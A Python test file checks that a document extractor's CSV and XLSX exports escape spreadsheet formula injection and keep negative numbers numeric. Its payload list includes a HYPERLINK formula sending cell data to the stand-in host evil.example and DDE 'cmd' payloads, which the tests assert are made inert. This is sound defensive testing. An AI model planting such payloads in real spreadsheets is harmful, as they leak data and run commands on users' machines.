"""Exports never hand a spreadsheet a formula (OWASP CSV injection), and numbers stay numbers.

Document text reaches every export: the corpus export (CSV, XLSX), the web app's findings
XLSX and the batch summary. Each is written with hostile text in it and read back.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from extractor.spreadsheet import FORMULA_LEADS, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


def _rows() -> list[dict]:
    rows = []
    for i, text in enumerate(HOSTILE):
        rows.append({"file": f"{text}.pdf", "year": 2023, "project": text, "name": text, "target_text": text,
                     "op": "≥", "value": -5.5 - i, "unit": "%", "actual_text": text, "weight": -2, "score": 0.0,
                     "row": i})
    rows.append({"file": "ok.pdf", "name": "群众满意度", "target_text": "≥95%", "value": 95.0, "row": 9})
    return rows


def _no_formula(ws) -> list:
    """Every cell of a worksheet read back: none a formula, no text that starts like one."""
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells
    for c in cells:
        assert c.data_type != "f", (c.coordinate, c.value)
        assert not (isinstance(c.value, str) and c.value.startswith(FORMULA_LEADS)), (c.coordinate, c.value)
    return cells


def test_safe_cell_rule():
    assert [safe_cell(t)[:2] for t in HOSTILE] == ["'=", "'+", "'-", "'@", "'\t", "'\r", "'="]
    assert safe_cell(-3.5) == -3.5 and safe_cell(-7) == -7 and safe_cell(None) is None
    assert safe_cell("群众满意度") == "群众满意度" and safe_cell("≥95%") == "≥95%" and safe_cell("") == ""


def test_corpus_xlsx_export_has_no_formula_and_negative_numbers_stay_numbers():
    from corpus.api import EXPORT_COLUMNS, export

    ws = load_workbook(io.BytesIO(export(_rows(), "xlsx", None))).active
    _no_formula(ws)
    header = [c.value for c in ws[1]]
    assert header == EXPORT_COLUMNS
    value, weight, name = (header.index(k) + 1 for k in ("value", "weight", "name"))
    assert ws.cell(2, value).value == -5.5 and ws.cell(2, value).data_type == "n"
    assert ws.cell(3, weight).value == -2 and ws.cell(3, weight).data_type == "n"
    assert ws.cell(2, name).value == "'" + HOSTILE[0]  # the text kept, readable, inert
    assert ws.cell(len(HOSTILE) + 2, name).value == "群众满意度"


def test_corpus_csv_export_has_no_formula_and_negative_numbers_stay_numbers():
    from corpus.api import export

    text = export(_rows(), "csv", None).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    for r in rows:
        for key, cell in r.items():
            assert not cell.startswith(FORMULA_LEADS) or key in ("value", "weight"), (key, cell)
    assert [r["value"] for r in rows[:2]] == ["-5.5", "-6.5"]  # a number, written as one
    assert rows[0]["name"] == "'" + HOSTILE[0] and rows[-1]["name"] == "群众满意度"


def test_findings_xlsx_has_no_formula():
    pytest.importorskip("jinja2")
    from jixiao.web.exports import findings_xlsx

    report = {"source": {"file": "=cmd|' /C calc'!A0.pdf"}, "findings": [
        {"severity": "error", "rule": "sum.rows", "message": text, "expected": -12.5, "actual": text, "locations": []}
        for text in HOSTILE]}
    ws = load_workbook(io.BytesIO(findings_xlsx(report))).active
    _no_formula(ws)
    assert ws.cell(2, 5).value == -12.5 and ws.cell(2, 5).data_type == "n"


def test_batch_summary_xlsx_has_no_formula():
    from jixiao.batch_summary import BatchRow, build_summary, summary_xlsx

    rows = [BatchRow(path=f"{text}.pdf", sha256="0" * 64, status="failed", kind=None, pages=None, projects=None,
                     indicators=None, seconds=0.1, error=f"{text}.pdf: the file is corrupt or truncated")
            for text in HOSTILE]
    wb = load_workbook(io.BytesIO(summary_xlsx(build_summary(rows, {}))))
    for ws in wb.worksheets:
        _no_formula(ws)
